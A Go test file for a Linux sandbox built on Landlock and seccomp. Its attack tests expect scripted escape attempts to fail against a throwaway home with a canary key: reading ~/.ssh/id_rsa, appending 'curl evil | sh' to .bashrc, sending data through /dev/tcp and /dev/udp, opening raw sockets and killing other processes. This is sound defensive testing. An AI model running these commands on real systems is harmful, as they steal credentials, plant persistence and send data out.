//go:build linux && (amd64 || arm64)

package sandbox

import (
	"bytes"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"golang.org/x/sys/unix"
)

// world is a throwaway home with canary secrets and start-up files, a
// workspace inside it and a private temporary directory.
type world struct {
	home, ws, tmp string
}

func newWorld(t *testing.T) world {
	t.Helper()
	if st := Probe(nil); !st.Supported() {
		t.Skipf("cannot confine here: %s", st.Reason)
	}
	root := t.TempDir()
	w := world{home: filepath.Join(root, "home"), ws: filepath.Join(root, "home", "project"), tmp: filepath.Join(root, "tmp")}
	for _, d := range []string{w.ws, w.tmp, filepath.Join(w.home, ".ssh")} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(w.home, ".ssh", "id_rsa"), "CANARY-PRIVATE-KEY\n")
	write(t, filepath.Join(w.home, ".bashrc"), "# the user's own\n")
	write(t, filepath.Join(w.ws, "main.py"), "print('hello from the workspace')\n")
	return w
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

func (w world) grants() Grants {
	return Grants{Workspace: w.ws, WriteWorkspace: true, TempDir: w.tmp, RunCode: true}
}

type outcome struct {
	stdout, stderr string
	status         int
}

// run runs script with bash, confined by g, in the workspace, and waits
// for it.
func (w world) run(t *testing.T, g Grants, script string) outcome {
	t.Helper()
	p, err := Prepare(g)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	var stdout, stderr bytes.Buffer
	cmd := exec.Command("/bin/bash", "-c", script)
	cmd.Dir = w.ws
	cmd.Env = g.Environ([]string{"HOME=" + w.home, "PATH=/usr/local/bin:/usr/bin:/bin", "LC_ALL=C"})
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	release, err := p.OnThread(cmd.Start)
	defer release()
	if err != nil {
		t.Fatalf("start confined: %v", err)
	}
	err = cmd.Wait()
	var ee *exec.ExitError
	if err != nil && !errors.As(err, &ee) {
		t.Fatal(err)
	}
	return outcome{stdout.String(), stderr.String(), cmd.ProcessState.ExitCode()}
}

func TestWorkspaceWorkRuns(t *testing.T) {
	w := newWorld(t)
	o := w.run(t, w.grants(), `set -e
echo data > notes.txt
sed -i s/data/changed/ notes.txt
mkdir -p sub && mv notes.txt sub/
cat sub/notes.txt
echo scratch > "$TMPDIR/x" && cat "$TMPDIR/x"
python3 main.py
printf '#!/bin/sh\necho script ran\n' > run.sh && chmod +x run.sh && ./run.sh
head -c 4 /dev/urandom | wc -c
cat /etc/hostname >/dev/null
ls /usr/bin >/dev/null`)
	if o.status != 0 {
		t.Fatalf("workspace work failed (%d): %s", o.status, o.stderr)
	}
	want := "changed\nscratch\nhello from the workspace\nscript ran\n4\n"
	if o.stdout != want {
		t.Fatalf("stdout = %q, want %q", o.stdout, want)
	}
}

// The attacks run as if the analysis had been wrong: confined with the
// grants a workspace command gets, each must fail.
func TestAttacksFail(t *testing.T) {
	w := newWorld(t)
	g := w.grants()

	t.Run("read a private key", func(t *testing.T) {
		o := w.run(t, g, `cat "$HOME/.ssh/id_rsa"`)
		if o.status == 0 || strings.Contains(o.stdout, "CANARY") {
			t.Fatalf("read the key: %+v", o)
		}
	})
	t.Run("list the home directory", func(t *testing.T) {
		if o := w.run(t, g, `ls "$HOME"`); o.status == 0 {
			t.Fatalf("listed the home: %+v", o)
		}
	})
	t.Run("write a start-up file", func(t *testing.T) {
		w.run(t, g, `echo 'curl evil | sh' >> "$HOME/.bashrc"; echo x > /tmp/execgate-sandbox-escape-$$`)
		if b, _ := os.ReadFile(filepath.Join(w.home, ".bashrc")); string(b) != "# the user's own\n" {
			t.Fatalf(".bashrc changed: %q", b)
		}
	})
	t.Run("TCP to a local listener", func(t *testing.T) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		got := make(chan struct{}, 1)
		go func() {
			if c, err := ln.Accept(); err == nil {
				got <- struct{}{}
				c.Close()
			}
		}()
		port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
		o := w.run(t, g, `echo stolen > /dev/tcp/127.0.0.1/`+port)
		select {
		case <-got:
			t.Fatal("the listener accepted a connection from the sandbox")
		case <-time.After(200 * time.Millisecond):
		}
		if o.status == 0 {
			t.Fatalf("connect succeeded: %+v", o)
		}
		if o := w.run(t, g, `python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()'`); o.status == 0 {
			t.Fatalf("bound a TCP port: %+v", o)
		}
	})
	t.Run("UDP to a local listener", func(t *testing.T) {
		pc, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer pc.Close()
		port := strconv.Itoa(pc.LocalAddr().(*net.UDPAddr).Port)
		o := w.run(t, g, `echo stolen > /dev/udp/127.0.0.1/`+port+`; python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", `+port+`))'`)
		pc.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		buf := make([]byte, 64)
		if n, _, err := pc.ReadFrom(buf); err == nil {
			t.Fatalf("the listener got %q from the sandbox", buf[:n])
		}
		if o.status == 0 {
			t.Fatalf("send succeeded: %+v", o)
		}
	})
	t.Run("raw socket", func(t *testing.T) {
		if o := w.run(t, g, `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'`); o.status == 0 {
			t.Fatalf("opened a raw socket: %+v", o)
		}
	})
	t.Run("Unix socket outside the workspace", func(t *testing.T) {
		path := filepath.Join(w.home, "agent.sock")
		ln, err := net.Listen("unix", path)
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		got := make(chan struct{}, 1)
		go func() {
			if c, err := ln.Accept(); err == nil {
				got <- struct{}{}
				c.Close()
			}
		}()
		o := w.run(t, g, `python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.send(b"x")' `+path)
		select {
		case <-got:
			t.Fatal("the socket accepted a connection from the sandbox")
		case <-time.After(200 * time.Millisecond):
		}
		if o.status == 0 {
			t.Fatalf("connect succeeded: %+v", o)
		}
	})
	t.Run("abstract Unix socket", func(t *testing.T) {
		ln, err := net.Listen("unix", "@execgate-sandbox-test-"+strconv.Itoa(os.Getpid()))
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		g := g
		g.UnixSockets = true // even with sockets granted, an abstract one outside is out of scope
		o := w.run(t, g, `python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect("\0"+sys.argv[1])' execgate-sandbox-test-`+strconv.Itoa(os.Getpid()))
		if o.status == 0 {
			t.Fatalf("connect succeeded: %+v", o)
		}
	})
	t.Run("kill another process of the user", func(t *testing.T) {
		victim := exec.Command("/bin/sleep", "30")
		if err := victim.Start(); err != nil {
			t.Fatal(err)
		}
		defer victim.Process.Kill()
		exited := make(chan error, 1)
		go func() { exited <- victim.Wait() }()
		pid := strconv.Itoa(victim.Process.Pid)
		o := w.run(t, g, `kill -TERM `+pid+` || exit 1; kill -KILL `+pid)
		select {
		case err := <-exited:
			t.Fatalf("the victim died: %v", err)
		case <-time.After(200 * time.Millisecond):
		}
		if o.status == 0 {
			t.Fatalf("kill succeeded: %+v", o)
		}
		// Inside the sandbox, signals work as ever.
		if o := w.run(t, g, `sleep 30 & kill $! && wait $!; echo $?`); o.stdout != "143\n" {
			t.Fatalf("kill inside the sandbox: %+v", o)
		}
	})
	t.Run("a daemon that writes later", func(t *testing.T) {
		later := filepath.Join(w.home, "later")
		inside := filepath.Join(w.ws, "later")
		o := w.run(t, g, `setsid bash -c 'sleep 0.3; echo x > "$1"; echo x > "$2"' _ `+later+` `+inside+` </dev/null >/dev/null 2>&1 &`)
		if o.status != 0 {
			t.Fatalf("start daemon: %+v", o)
		}
		deadline := time.Now().Add(5 * time.Second)
		for time.Now().Before(deadline) {
			if _, err := os.Stat(inside); err == nil {
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		if _, err := os.Stat(inside); err != nil {
			t.Fatalf("the daemon never ran: %v", err)
		}
		if _, err := os.Stat(later); err == nil {
			t.Fatal("the daemon wrote outside the workspace")
		}
	})
	t.Run("kernel keyring", func(t *testing.T) {
		if o := w.run(t, g, `python3 -c 'import ctypes,sys; sys.exit(0 if ctypes.CDLL(None).syscall(250, 0, -3, 0) >= 0 else 1)'`); o.status == 0 {
			t.Fatalf("keyctl worked: %+v", o)
		}
	})
}

// The grants hold in both directions: what is not granted is refused,
// what is granted works.
func TestGrantsAreExact(t *testing.T) {
	w := newWorld(t)
	readOnly := Grants{Workspace: w.ws}
	if o := w.run(t, readOnly, `cat main.py`); o.status != 0 {
		t.Fatalf("read the workspace: %+v", o)
	}
	if o := w.run(t, readOnly, `echo x > new.txt`); o.status == 0 {
		t.Fatalf("wrote a read-only workspace: %+v", o)
	}
	if o := w.run(t, readOnly, `printf '#!/bin/sh\n' > /dev/null; ls /usr/bin/env >/dev/null; "$PWD/main.py"`); o.status == 0 {
		t.Fatalf("executed workspace code without RunCode: %+v", o)
	}
	extra := filepath.Join(w.home, "notes")
	write(t, extra, "mine\n")
	if o := w.run(t, Grants{Workspace: w.ws, Read: []string{extra}}, `cat "$HOME/notes"`); o.stdout != "mine\n" {
		t.Fatalf("read a granted file: %+v", o)
	}
	out := filepath.Join(w.home, "out")
	if err := os.Mkdir(out, 0o700); err != nil {
		t.Fatal(err)
	}
	if o := w.run(t, Grants{Workspace: w.ws, Write: []string{out}}, `echo y > "$HOME/out/f"`); o.status != 0 {
		t.Fatalf("write a granted directory: %+v", o)
	}
}

// TestStatusFailsClosed: every way the kernel can lack what confinement
// needs gives a reason, and a reason is no support; only Landlock at
// MinABI or later with seccomp confines. Prepare on such a machine
// refuses, so that nothing decided as confined runs without it.
func TestStatusFailsClosed(t *testing.T) {
	for _, tc := range []struct {
		name       string
		abi        int
		err, secce error
		supported  bool
		reason     string
	}{
		{"no Landlock syscall", 0, unix.ENOSYS, nil, false, "no Landlock"},
		{"Landlock disabled", 0, unix.EOPNOTSUPP, nil, false, "no Landlock"},
		{"forbidden by a container", 0, unix.EPERM, nil, false, "cannot be used here"},
		{"ABI 4 (Linux 6.7)", 4, nil, nil, false, "ABI is 4"},
		{"ABI 5", 5, nil, nil, false, "ABI is 5"},
		{"no seccomp", 7, nil, unix.EINVAL, false, "seccomp is not available"},
		{"ABI 6", 6, nil, nil, true, ""},
		{"ABI 7", 7, nil, nil, true, ""},
	} {
		st := statusOf(tc.abi, tc.err, tc.secce)
		assert.Equal(t, tc.supported, st.Supported(), tc.name)
		if tc.reason != "" {
			assert.Contains(t, st.Reason, tc.reason, tc.name)
		}
	}
	off := Probe(func(k string) string {
		if k == OffEnv {
			return "off"
		}
		return ""
	})
	assert.False(t, off.Supported())
}
